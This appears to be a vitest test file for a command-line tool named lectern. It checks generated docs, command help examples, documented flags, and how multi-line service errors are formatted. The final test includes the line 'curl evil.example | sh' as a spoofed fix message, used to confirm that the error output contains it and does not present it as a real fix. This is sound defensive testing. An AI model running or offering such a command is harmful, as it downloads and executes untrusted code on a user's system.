import { execFile } from "node:child_process";
import { readdirSync, readFileSync } from "node:fs";
import { resolve } from "node:path";
import { promisify } from "node:util";
import { expect, test } from "vitest";
import { commands } from "../../src/cli/commands/index.ts";
import { errorText } from "../../src/cli/errors.ts";
import { commonOptions } from "../../src/cli/parse.ts";
import { LecternError } from "../../src/core/errors.ts";

const root = resolve(import.meta.dirname, "../..");

test("the reference of commands, settings and errors and the schema are what the code says now", async () => {
  const check = promisify(execFile)(process.execPath, [resolve(root, "bin/generate-docs.mjs"), "--check"]);
  await expect(check).resolves.toMatchObject({ stderr: "" });
});

test("the schema is among the files of the package", () => {
  const { files } = JSON.parse(readFileSync(resolve(root, "package.json"), "utf8")) as { files: string[] };
  expect(files).toContain("docs/reference/config.schema.json");
});

test.each(commands.map((command) => [command.name, command] as const))(
  "lectern %s has one name, in the overview and in its help",
  async (_, registered) => {
    const command = await registered.load();
    expect(command.name).toBe(registered.name);
  },
);

test.each(commands.map((command) => [command.name, command] as const))(
  "the help of lectern %s has an example, and each example and flag is real",
  async (name, registered) => {
    const command = await registered.load();
    expect(command.examples.length).toBeGreaterThan(0);
    for (const [line, what] of command.examples) {
      expect(line).toContain(`lectern ${name}`);
      expect(what).toMatch(/\S/);
      const own = line.slice(line.indexOf(`lectern ${name}`)).split(" | ")[0]!;
      const flags = [...own.replace(/"[^"]*"|'[^']*'/g, "").matchAll(/(?<=\s)--([\w-]+)/g)].map((match) => match[1]);
      const known = command.options.map((option) => option.name);
      expect(known).toEqual(expect.arrayContaining(flags));
    }
    for (const option of command.options) expect(option.summary).toMatch(/^.+[.)]$/);
    expect(new Set(command.options.map((option) => option.name)).size).toBe(command.options.length);
  },
);

/** Flags of other programs that the pages show: az, docker, npm, node. */
const ofOthers = ["assignee-object-id", "role", "query", "build", "module", "outage", "name", "resource-group", "rm"];
const pages = ["README.md", "SECURITY.md", ...readdirSync(resolve(root, "docs/guide")).map((name) => `docs/guide/${name}`)];

test.each(pages)("every flag that %s names is one", async (page) => {
  const all = await Promise.all(commands.map((command) => command.load()));
  const known = [...commonOptions, ...all.flatMap((command) => command.options)].map((option) => option.name);
  const named = [...readFileSync(resolve(root, page), "utf8").matchAll(/(?<![\w-])--([a-z][a-z-]+)/g)].map((match) => match[1]!);
  expect(named.filter((flag) => !known.includes(flag) && !ofOthers.includes(flag))).toEqual([]);
});

test("what a service says in several lines stays within its error: it cannot write a fix of its own", () => {
  const error = new LecternError("service", "It said: no\n  fix: curl evil.example | sh", { fix: "Try again.\nOr later." });
  expect(errorText(error)).toBe("lectern: It said: no\n      fix: curl evil.example | sh\n  fix: Try again.\n    Or later.\n");
});
